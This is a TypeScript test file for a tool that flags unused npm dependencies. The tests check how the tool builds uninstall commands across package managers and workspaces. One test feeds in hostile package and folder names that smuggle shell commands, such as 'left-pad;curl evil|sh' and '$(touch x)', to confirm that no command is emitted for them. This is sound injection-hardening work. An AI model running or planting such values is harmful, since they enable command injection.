// What nobody uses: the command that removes a package, and repositories in which nothing can be called unused.

import { expect, test } from 'vitest';
import { isPackageName } from '../../../server/src/core/model/packageName.ts';
import { createRemovalCommand } from '../../../server/src/core/rules/unused-dependency/removal.ts';
import type { Texts } from '../index/graphSupport.ts';
import { foundIn } from './projectCase.ts';

const lockOf = (...names: readonly string[]) =>
  JSON.stringify({ packages: Object.fromEntries(names.map((name) => [`node_modules/${name}`, {}])) });
const commands = async (texts: Texts) =>
  (await foundIn(texts, 'unused-dependency')).map(({ evidence }) => evidence['command'] ?? null);

test('a name that a shell would read as more than one word is not reported', async () => {
  const names = ['left-pad', 'left-pad;curl evil|sh', '$(touch x)', '`touch x`', '--global', '~root', 'a b', '../up'];
  const hostile = Object.fromEntries(names.map((name) => [name, '1']));
  const manifest = JSON.stringify({ main: './index.js', dependencies: hostile });
  const texts = { 'package.json': manifest, 'index.js': '', 'package-lock.json': lockOf(...names) };
  expect(await commands(texts)).toEqual(['npm uninstall left-pad']);
  expect(['@scope/name', 'JSONStream', 'a.b_c~d'].filter(isPackageName)).toHaveLength(3);
  expect(['', '@scope', '@scope/', '@/name', 'a/b', 'a\n', 'a'.repeat(215)].filter(isPackageName)).toEqual([]);
});

const folder = (dir: string, texts: Texts): Texts =>
  Object.fromEntries(Object.entries(texts).map(([path, text]) => [`${dir}/${path}`, text]));
const forgetful = {
  'package.json': '{ "main": "./index.js", "dependencies": { "left-pad": "1" } }',
  'index.js': '',
  'package-lock.json': lockOf('left-pad'),
};

test('a folder is quoted if it has to be, and gets no command if quotes do not suffice', async () => {
  expect(await commands(folder('my client', forgetful))).toEqual(['npm --prefix "my client" uninstall left-pad']);
  for (const dir of ['a;b', 'a"b', '$(touch x)', 'a`b', '-C', 'a%PATH%b']) {
    const [found] = await foundIn(folder(dir, forgetful), 'unused-dependency');
    expect(found?.message).toMatch(/`left-pad` is in `dependencies`.* names it\.$/);
    expect(found?.evidence).not.toHaveProperty('command');
  }
});

test('npm is asked for a workspace only if the package is one', async () => {
  const root = { 'package.json': '{ "private": true, "main": "./index.js" }', 'index.js': '' };
  const { 'package-lock.json': _, ...unlocked } = forgetful;
  const rootLock = (entries: object) => JSON.stringify({ packages: { 'node_modules/left-pad': {}, ...entries } });
  const workspaces = '{ "private": true, "main": "./index.js", "workspaces": ["client"] }';
  const prefixed = ['npm --prefix client uninstall left-pad'];
  expect(await commands({ ...root, ...folder('client', forgetful) })).toEqual(prefixed);
  expect(await commands({ ...root, ...folder('client', unlocked), 'package-lock.json': rootLock({}) })).toEqual(
    prefixed,
  );
  const declared = { ...root, ...folder('client', unlocked), 'package.json': workspaces };
  expect(await commands({ ...declared, 'package-lock.json': rootLock({}) })).toEqual(prefixed);
  expect(await commands({ ...declared, 'package-lock.json': rootLock({ client: {} }) })).toEqual([
    'npm uninstall --workspace client left-pad',
  ]);
});

test('the nearest lock file tells the package manager', () => {
  const command = (dir: string, ...paths: readonly string[]) =>
    createRemovalCommand(dir, 'x', new Set(paths), () => true);
  expect(command('client', 'client/yarn.lock', 'package-lock.json')).toBe('yarn --cwd client remove x');
  expect(command('client', 'pnpm-lock.yaml')).toBe('pnpm remove --dir client x');
  expect(command('', 'bun.lock', 'client/yarn.lock')).toBe('bun remove x');
  expect(command('web/client', 'web/package-lock.json')).toBe('npm --prefix web uninstall --workspace client x');
});

test.each(['unused-dependency', 'unused-file'])('%s finds nothing where files are excluded', async (rule) => {
  const texts = {
    ...forgetful,
    'package.json': '{ "main": "./src/index.js", "dependencies": { "left-pad": "1" } }',
    'src/index.js': "export { two } from './two.js';\nexport { three } from './three.js';\n",
    'src/two.js': 'export const two = 2;\n',
    'src/three.js': 'export const three = 3;\n',
    'src/old.js': 'export const old = 1;\n',
  };
  expect(await foundIn(texts, rule)).toHaveLength(1);
  expect(await foundIn({ ...texts, '.selfwareignore': '# Data.\n\ntest/fixtures/\n' }, rule)).toHaveLength(1);
  expect(await foundIn({ ...texts, '.selfwareignore': 'app/\n' }, rule)).toEqual([]);
  expect(await foundIn(texts, rule, { excludes: ['app/'] })).toEqual([]);
});

test('an example in a page loads a package, and a sentence about it does not', async () => {
  const page = (text: string) => ({ ...forgetful, 'guide.md': text });
  expect(await commands(page("```js\nimport pad from 'left-pad';\n```\n"))).toEqual([]);
  expect(await commands(page('```sh\nnpm install left-pad\n```\nUses left-pad.\n'))).toHaveLength(1);
  expect(await commands(page("```js\n```\nimport pad from 'left-pad';\n"))).toEqual([]);
});
